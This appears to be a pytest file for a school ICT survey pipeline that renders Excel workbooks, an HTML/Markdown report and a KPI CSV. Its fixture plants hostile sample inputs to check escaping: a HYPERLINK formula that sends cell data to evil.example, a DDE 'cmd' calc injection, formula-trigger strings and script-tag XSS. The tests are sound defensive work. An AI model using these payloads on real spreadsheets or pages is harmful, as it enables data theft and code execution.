"""The board pack and the staff workbook read back with openpyxl, the report's sentences and escaping,
kpi.csv bytes. (How the board pack prints is tests/test_board_pack.py.)"""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from pipeline.render import RunInfo, csv_bytes, render_outputs
from pipeline.render.report import build_report
from pipeline.render.staff import build_staff_workbook
from pipeline.render.workbook import build_workbook
from test_score import DEF, answers_for, run, school

RUN = RunInfo(run_id="20261125-143000", generated_at=dt.datetime(2026, 11, 25, 14, 30), roster_source="schools.csv")
EVIL_REMARK = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'


@pytest.fixture(scope="module")
def scores():
    """20 小学校 (19 meet scene ①: 95.0 = target), 31 中学校 (15 meet scene ④: 48.4 vs 55),
    one 中等教育学校, and hostile text in remarks, file names and problem values."""
    entries = []
    for i in range(20):
        e = school(f"E{i:02d}", ward=("青葉区", "泉区")[i % 2])
        entries.append((e, answers_for(e, scene_1="月1回以上" if i == 0 else "週3回以上",
                                       remarks=EVIL_REMARK if i == 1 else ("@SUM(1)" if i == 2 else None),
                                       act_1_1_1_plan="未実施" if i == 3 else "実施済み")))
    for i in range(31):
        j = school(f"J{i:02d}", "中学校", ward="太白区")
        entries.append((j, answers_for(j, scene_4="週3回以上" if i < 15 else "週1回以上")))
    s1 = school("S1", "中等教育学校", ward="青葉区")
    entries.append((s1, answers_for(s1)))
    problems = [{"file": "=cmd|' /C calc'!A0.xlsx", "school_code": "E05", "sheet": "備考", "cell": "C5",
                 "item_id": "remarks", "value": "+1+1", "code": "check-ratio-max", "severity": "query",
                 "message": "「台数」<script>alert(1)</script> が多すぎるようです。"}]
    missing = [school("X1", name="仙台市立<script>alert('x')</script>小学校")]
    return run(entries, missing=missing, problems=problems)


@pytest.fixture(scope="module")
def book(scores):
    """The board pack."""
    return openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, scores, RUN)))


@pytest.fixture(scope="module")
def staff(scores):
    return openpyxl.load_workbook(io.BytesIO(build_staff_workbook(DEF, scores, RUN)))


@pytest.fixture(scope="module")
def report(scores):
    return build_report(DEF, scores, RUN)


# ---------------------------------------------------------------- workbook


def test_sheet_names(book, staff):
    assert book.sheetnames == ["概要", "場面別KPI", "区別KPI", "高校等の目標", "取組状況", "指導力", "指導力（項目別）",
                               "環境", "経年", "提出状況"]
    assert staff.sheetnames == ["説明", "学校別回答", "エラー・確認一覧", "ファイル台帳", "データ", "取組状況（詳細）",
                                "指導力（詳細）", "環境（詳細）", "経年（年度別）"]


def _heading(value):
    """A column heading as its words (the board pack breaks long headings in two lines)."""
    return value.replace("\n", "") if isinstance(value, str) else value


def _find_row(ws, **match):
    """The first table row whose headed columns equal `match` (header row found by its first key)."""
    keys = list(match)
    for row in ws.iter_rows():
        values = [_heading(c.value) for c in row]
        if keys[0] in values and all(k in values for k in keys):
            header = values
            break
    else:
        raise AssertionError(f"no header with {keys}")
    idx = {h: i for i, h in enumerate(header) if h is not None}
    for row in ws.iter_rows(min_row=row[0].row + 1):
        if all(row[idx[k]].value == v for k, v in match.items()):
            return {h: row[i] for h, i in idx.items()}
    raise AssertionError(f"no row {match}")


def test_kpi_values_and_judgement(book):
    ws = book["場面別KPI"]
    r = _find_row(ws, 校種="中学校", 場面="④児童生徒同士のやりとり")
    assert r["有効回答校"].value == 31 and r["週3回以上の学校"].value == 15
    assert r["結果"].value == pytest.approx(0.484) and r["結果"].number_format == "0.0%"
    assert r["R7市目標"].value == pytest.approx(0.55)
    assert r["目標との差"].value == pytest.approx(-6.6) and "pt" in r["目標との差"].number_format
    assert r["R6現状比"].value == pytest.approx(14.0)
    assert r["判定"].value == "未達成"
    r = _find_row(ws, 校種="小学校", 場面="①自分で調べる")
    assert r["結果"].value == pytest.approx(0.95) and r["判定"].value == "達成"
    assert r["目標との差"].value == 0


def test_charts_present(book):
    assert len(book["場面別KPI"]._charts) == 2  # 小学校 and 中学校
    assert len(book["指導力"]._charts) == 1
    assert len(book["経年"]._charts) == 2


def test_every_sheet_prints_on_a4_at_100_percent_with_titles(book, staff):
    """The board pack at 100 % (never fitted to a page width), each sheet in its own orientation."""
    for ws in book.worksheets + staff.worksheets:
        ps = ws.page_setup
        assert int(ps.paperSize) == 9, ws.title
        assert not (ws.sheet_properties.pageSetUpPr and ws.sheet_properties.pageSetUpPr.fitToPage), ws.title
        assert ws.print_title_rows, ws.title
        assert DEF.survey.title in ws.oddHeader.left.text
        assert "20261125-143000" in ws.oddHeader.right.text
        assert "&P" in ws.oddFooter.center.text
    assert {ws.title: ws.page_setup.orientation for ws in book.worksheets} == {
        "概要": "portrait", "場面別KPI": "landscape", "区別KPI": "landscape", "高校等の目標": "landscape",
        "取組状況": "landscape", "指導力": "landscape", "指導力（項目別）": "landscape", "環境": "landscape",
        "経年": "landscape", "提出状況": "portrait"}


def test_staff_tables_with_filters_and_frozen_headers(staff):
    for name in ("学校別回答", "エラー・確認一覧", "ファイル台帳", "データ", "取組状況（詳細）", "指導力（詳細）", "環境（詳細）"):
        ws = staff[name]
        assert ws.tables, name
        assert all(t.autoFilter is not None for t in ws.tables.values()), name
        assert ws.freeze_panes, name


def test_conditional_formatting(book, staff):
    kpi_rules = [r for cf in book["場面別KPI"].conditional_formatting for r in cf.rules]
    assert any(r.formula and '"達成"' in r.formula[0] for r in kpi_rules)
    assert any(r.formula and '"未達成"' in r.formula[0] for r in kpi_rules)
    per_school = [(str(cf.sqref), r) for cf in staff["学校別回答"].conditional_formatting for r in cf.rules]
    # The 1-(1)-① plan column: red when the answer is neither 実施済み nor 実施中.
    assert any('<>"実施済み"' in r.formula[0] and '<>"実施中"' in r.formula[0] for _, r in per_school if r.formula)
    # Scene columns: below 週3回以上 for 小・中, below the own target for 高等学校等.
    assert any('<>"週3回以上"' in r.formula[0] and '"中等教育学校"' in r.formula[0] for _, r in per_school if r.formula)


def test_school_text_is_never_a_formula(book, staff):
    ws = staff["学校別回答"]
    texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts[EVIL_REMARK].data_type == "s"
    assert texts["@SUM(1)"].data_type == "s"
    ws = staff["エラー・確認一覧"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells["=cmd|' /C calc'!A0.xlsx"].data_type == "s"
    assert cells["+1+1"].data_type == "s"
    for ws in book.worksheets + staff.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)


def test_per_school_sheet_has_source_file_and_cells(staff):
    ws = staff["学校別回答"]
    r = _find_row(ws, 学校コード="E01")
    assert r["出典ファイル"].value == "E01.xlsx"
    assert r["提出状況"].value == "提出済み"
    assert _find_row(ws, 学校コード="X1")["提出状況"].value == "未提出"
    values = [c.value for row in ws.iter_rows(max_row=5) for c in row]
    assert "回答セル →" in values and any(isinstance(v, str) and v.startswith("端末活用!") for v in values)
    d = _find_row(staff["データ"], 学校コード="E03", 項目ID="act_1_1_1_plan")
    assert d["回答"].value == "未実施" and d["目標未達"].value == "未達"
    assert (d["ファイル"].value, d["シート"].value) == ("E03.xlsx", "取組状況")


def test_numbers_stay_numbers_in_data_sheet(staff):
    d = _find_row(staff["データ"], 学校コード="E03", 項目ID="students")
    assert d["回答"].value == 300 and d["回答"].data_type == "n"


def test_sheet_over_the_row_limit_is_left_to_csv(scores):
    wb = openpyxl.load_workbook(io.BytesIO(build_staff_workbook(DEF, scores, RUN, max_rows=100)))
    ws = wb["データ"]
    assert not ws.tables
    assert any(isinstance(c.value, str) and "responses.csv" in c.value for row in ws.iter_rows() for c in row)


# ---------------------------------------------------------------- kpi.csv and render_outputs


def test_kpi_csv_bytes(scores):
    data = csv_bytes(scores.kpi_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "kpi_id,school_type,respondents,meeting,rate,baseline,target,national_target,met"
    assert "scene_4,中学校,31,15,48.4,34.4,55.0,80.0,false" in lines
    assert "scene_1,小学校,20,19,95.0,86.5,95.0,100.0,true" in lines
    assert len(lines) == 11


def test_kpi_csv_without_respondents_has_empty_rate_and_met():
    s = run([(school("E1"), answers_for(school("E1")))])
    lines = csv_bytes(s.kpi_frame()).decode("utf-8-sig").splitlines()
    assert "scene_1,中学校,0,0,,81.3,90.0,100.0," in lines


def test_render_outputs_names(scores):
    out = render_outputs(DEF, scores, RUN)
    assert set(out) == {"集約結果.xlsx", "集約結果_職員用.xlsx", "報告書.html", "報告書.md", "kpi.csv"}
    assert out["集約結果.xlsx"][:2] == b"PK" and out["集約結果_職員用.xlsx"][:2] == b"PK"
    assert all(isinstance(v, bytes) for v in out.values())


# ---------------------------------------------------------------- report


def test_report_key_sentences(report):
    html, md = report
    for text in (html, md):
        assert "中学校の④は目標55%に対し48.4%（▲6.6pt）で未達成、R6比+14.0pt。" in text
        assert "小学校の①は目標95%に対し95.0%（±0.0pt）で達成、R6比+8.5pt。" in text


def test_report_sections(report):
    html, md = report
    for title in ("調査の概要", "回収状況", "場面ごとの端末活用", "高等学校等の学校目標", "行動計画の取組状況",
                  "教員のICT活用指導力", "環境整備", "まとめ", "未提出校", "エラー・確認事項の件数"):
        assert title in html and title in md, title
    for policy in DEF.policies.values():
        assert policy.title in html


def test_report_charts_are_svg_with_text(report):
    html, _ = report
    assert html.count("<svg") >= 3
    assert "<text" in html and "④児童生徒同士のやりとり</text>" in html
    assert "@page" in html and "A4" in html


def test_school_text_is_escaped(report):
    html, md = report
    assert "<script>" not in html and "<script>" not in md
    assert "&lt;script&gt;alert" in html
    assert "仙台市立&lt;script&gt;" in md


def test_small_counts_are_not_shown_on_their_own(report, scores):
    html, md = report
    # One 中等教育学校: its coverage rate is not shown, yet it counts in 全体.
    assert "| 中等教育学校 | 1 | 1 | 0 | 0 | — |" in md
    row = next(line for line in md.splitlines() if line.startswith("| 中等教育学校 | 1 |"))
    assert "100.0%" not in row
    assert "| 全体 | 53 | 52 | 0 | 1 | 98.1% |" in md


def test_summary_is_written_from_the_numbers(report):
    _, md = report
    summary = md.split("## 8. まとめ", 1)[1].split("## 付録", 1)[0]
    # Every KPI but 中学校 ④ is met (the other answers are ほぼ毎日): 9 of 10.
    assert "10指標のうち、R7市目標を達成したのは9指標です。" in summary
    assert "中学校の④児童生徒同士のやりとり（48.4%、目標55%、▲6.6pt）" in summary


def test_report_sentences_for_missing_and_provisional():
    # 小学校: 3 of 4 answered (暫定); 中学校: none in the roster -> no respondents.
    entries = [(school(f"E{i}"), answers_for(school(f"E{i}"), scene_2="ほぼ毎日")) for i in range(3)]
    entries += [(school(f"E{i}"), answers_for(school(f"E{i}"), scene_2="ほぼ毎日")) for i in range(3, 6)]
    s = run(entries, missing=[school("E8"), school("E9")])
    html, md = build_report(DEF, s, RUN)
    assert "小学校の②は目標75%に対し100.0%（+25.0pt）で達成、R6比+29.6pt（暫定：回答率75.0%）。" in md
    assert "中学校の②は有効な回答がなく、率を算出できません。" in md
    s = run(entries[:3])
    _, md = build_report(DEF, s, RUN)
    assert "小学校の②は回答校が5校未満のため、率を示していません。" in md


def test_everything_renders_when_all_schools_are_missing():
    s = run([], missing=[school("E1"), school("J1", "中学校"), school("H1", "高等学校")])
    out = render_outputs(DEF, s, RUN)
    md = out["報告書.md"].decode()
    assert "小学校の①は有効な回答がなく、率を算出できません。" in md
    assert "中学校の⑤は有効な回答がなく、率を算出できません。" in md
    assert "- 集計できる回答がまだありません（集計対象 0校）。" in md
    wb = openpyxl.load_workbook(io.BytesIO(out["集約結果.xlsx"]))
    r = _find_row(wb["場面別KPI"], 校種="小学校", 場面="①自分で調べる")
    assert r["結果"].value is None and r["判定"].value == "—" and r["暫定"].value == "暫定"
    assert "scene_1,小学校,0,0,,86.5,95.0,100.0," in out["kpi.csv"].decode("utf-8-sig").splitlines()


def test_long_problem_list_is_left_to_its_csv(scores):
    wb = openpyxl.load_workbook(io.BytesIO(build_staff_workbook(DEF, scores, RUN, max_rows=6)))
    notes = {ws.title: [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
             for ws in wb.worksheets}
    assert any("problems.csv" in v for v in notes["エラー・確認一覧"])
    assert any("responses.csv" in v for v in notes["学校別回答"])
    assert not wb["エラー・確認一覧"].tables


def _table(ws, first_heading: str) -> tuple[list, list[list]]:
    """A board-pack table: its heading (the words of each column) and its rows, read down from the heading
    row whose first cell is `first_heading`, skipping the heading repeated on a next page, up to the first
    row that is no table row (a note)."""
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    top = next(i for i, r in enumerate(rows) if _heading(r[0]) == first_heading)
    columns = [c for c, v in enumerate(rows[top]) if v is not None]
    header = [_heading(rows[top][c]) for c in columns]
    body = []
    for r in rows[top + 1:]:
        values = [r[c] if c < len(r) else None for c in columns]
        if [_heading(v) for v in values] == header:
            continue
        if all(v is None for v in values[1:]):
            break
        body.append(values)
    return header, body


def test_action_sheet_has_one_row_per_action_and_the_share_per_school_type(book, scores):
    header, body = _table(book["取組状況"], "計画番号")
    assert header[:3] == ["計画番号", "学校の取組（調査項目）", "目標"]
    assert header[3:-1] == ["小学校", "中学校", "中等教育学校", "全体"]
    assert len(body) == scores.actions["item_id"].nunique()
    plan = next(r for r in body if r[0] == "1-(1)-①" and r[1].startswith("情報活用能力育成の年間計画"))
    assert plan[3] == pytest.approx(0.95)  # 19 of 20 小学校 answered 実施済み


def test_an_action_nobody_could_answer_keeps_its_row_with_empty_shares():
    """Regression: the only 特別支援学校 did not answer; its items have no rate in any school type."""
    e = school("E1")
    scores = run([(e, answers_for(e))], missing=[school("T1", "特別支援学校")])
    ws = openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, scores, RUN)))["取組状況"]
    _, rows = _table(ws, "計画番号")
    io_devices = next(r for r in rows if r[1] and "入出力支援機器" in r[1])
    assert all(v is None for v in io_devices[3:-1])
